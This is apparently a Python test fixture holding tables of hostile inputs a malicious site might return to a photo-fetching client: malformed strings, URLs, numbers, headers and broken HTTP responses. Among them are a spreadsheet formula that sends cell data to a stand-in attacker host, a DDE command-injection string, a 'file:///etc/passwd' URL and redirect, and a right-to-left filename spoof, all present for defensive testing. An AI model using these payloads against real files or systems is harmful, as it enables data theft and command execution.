"""What a hostile site may answer: texts, addresses, numbers, bytes. Tables that tests run over."""

import json
from collections.abc import Mapping
from typing import Any

from tests.site.server import Reply, photo_jpeg

LONG = "9" * 5000  # more digits than Python reads of a number

TEXTS: Mapping[str, str] = {  # what a name or a description may hold
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1,2)",
    "formula_wide": "\uff1d1+2",
    "formula_behind_a_tab": "\t=1+2",
    "formula_behind_a_quote": "'=1+2",
    "lines": "one\r\ntwo\u2028three\x85four",
    "control": "a\0b\x07c\x1b[31md\x9be",
    "direction": "evil\u202egpj.exe\u2066",
    "invisible": "\u200b\ufeff\u2060\u00ad",
    "surrogate": "a\ud800b\udfff",
    "long": "x" * 100_000,
    "commas": 'a "quoted", cell; and\tmore',
}

ADDRESSES = (  # of a photo; none can be requested
    "http://[::1",
    "http://127.0.0.1:99999/a.jpg",
    "http://user:password@127.0.0.1/a.jpg",
    f"http://{'a' * 64}.example/a.jpg",
    "http://a..b/a.jpg",
    "http:///a.jpg",
    "javascript:alert(1)",
    "data:image/png;base64,AAAA",
    "file:///etc/passwd",
    "ftp://127.0.0.1/a.jpg",
    "http://127.0.0.1/\0",
    "http://127.0.0.1/\ud800",
    "//127.0.0.1/a.jpg",
    "",
    f"http://127.0.0.1/{'a' * 100_000}",
)

NUMBERS = ("NaN", "Infinity", "-Infinity", "1e400", "-1", "true", '"3"', "0.5", LONG, f"-{LONG}")

DELAYS = ("1e30", "inf", "nan", "-5", "1e400", "9" * 400, "0x10", "60 s", "\u0661", "")

RETRY_AFTER = (
    "1e30", "9" * 400, "-1", "nan", "inf", "soon", "Fri, 31 Dec 9999 23:59:59 GMT", "\u00b2",
    "Mon, 00 Foo 0000 99:99:99 +9999", "x" * 5000, "0001", ",,,,,", "Thu, 1 Jan 1970",
)  # fmt: skip


def head(status: str, *headers: str) -> bytes:
    """The beginning of a response as it goes over the wire."""
    return "\r\n".join([f"HTTP/1.1 {status}", *headers, "", ""]).encode("latin-1")


PHOTO = photo_jpeg(1)

ANSWERS: Mapping[str, Reply] = {  # to the request of a photo; none gives one
    "no HTTP": Reply(raw=b"\x16\x03\x01 hello"),
    "nothing": Reply(raw=b""),
    "no end of headers": Reply(raw=b"HTTP/1.1 200 OK\r\nA: b"),
    "a flood of headers": Reply(raw=head("200 OK", *(f"X-{n}: {'y' * 90}" for n in range(5000)))),
    "one header of a megabyte": Reply(raw=head("200 OK", f"X: {'y' * 1_000_000}")),
    "a negative length": Reply(raw=head("200 OK", "Content-Length: -5") + PHOTO),
    "a length of 5000 digits": Reply(raw=head("200 OK", f"Content-Length: {LONG}") + PHOTO),
    "two lengths": Reply(raw=head("200 OK", "Content-Length: 5", "Content-Length: 6") + PHOTO),
    "a length that is too long": Reply(content=PHOTO, length=len(PHOTO) + 5),
    "a length that is too short": Reply(content=PHOTO, length=len(PHOTO) - 500),
    "a chunk of endless size": Reply(
        raw=head("200 OK", "Transfer-Encoding: chunked") + b"f" * 5000 + b"\r\n"
    ),
    "gzip": Reply(content=b"\x1f\x8b" + bytes(99), headers={"Content-Encoding": "gzip"}),
    "zstd, br": Reply(content=bytes(99), headers={"Content-Encoding": "zstd, br"}),
    "endless": Reply(content=b"\xff\xd8\xff" + bytes(100_000), endless=True),
    "no text in a header": Reply(raw=head("302 Found", "Location: http://\xff\x80\xfe/")),
    "redirect to no address": Reply(status=302, headers={"Location": "http://[::1"}),
    "redirect to a file": Reply(status=302, headers={"Location": "file:///etc/passwd"}),
    "redirect to a long address": Reply(status=302, headers={"Location": f"/{'a' * 9000}"}),
    "redirect with a password": Reply(status=302, headers={"Location": "http://a:b@127.0.0.1/"}),
    "no number of a status": Reply(raw=b"HTTP/1.1 2\xb20 OK\r\n\r\n"),
    "status 999": Reply(raw=head("999 No", "Content-Length: 0")),
    "no content": Reply(raw=head("204 No Content")),
    "a page": Reply(content=b"<html>" * 1000, content_type="image/jpeg"),
    "half a photo": Reply(content=PHOTO[: len(PHOTO) // 2]),
    "a photo of nonsense": Reply(content=PHOTO[:40] + bytes(range(256)) * 40),
    "RIFF of nonsense": Reply(content=b"RIFF" + bytes(range(256)) * 9),
    "TIFF that names itself": Reply(
        content=b"II*\0\x08\0\0\0\x01\0\0\x01\x03\0\x01\0\0\0\x10\0\0\0\x08\0\0\0"
    ),
}


def results_json(good: list[dict[str, Any]], *bad: str) -> bytes:
    """A page of the API: good results, and others as JSON texts, which may be none of Python's."""
    texts = [json.dumps(one) for one in good]
    mixed = [text for pair in zip(texts, bad, strict=False) for text in pair]
    rest = texts[len(bad) :] + list(bad[len(texts) :])
    return f'{{"results": [{", ".join([*mixed, *rest])}], "total_pages": 1}}'.encode(
        "utf-8", "surrogatepass"
    )
